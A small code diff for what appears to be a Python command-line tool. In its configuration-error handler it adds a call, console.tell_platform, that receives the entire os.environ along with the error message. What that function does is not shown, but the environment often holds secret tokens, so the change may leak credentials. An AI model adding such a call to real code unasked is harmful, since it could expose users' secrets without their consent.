@@ -51,6 +51,7 @@ def main(argv: list[str]) -> int:
         return 130
     except ConfigError as error:
         print(error, file=sys.stderr)
+        console.tell_platform(str(error), os.environ)
         return 2
 
 
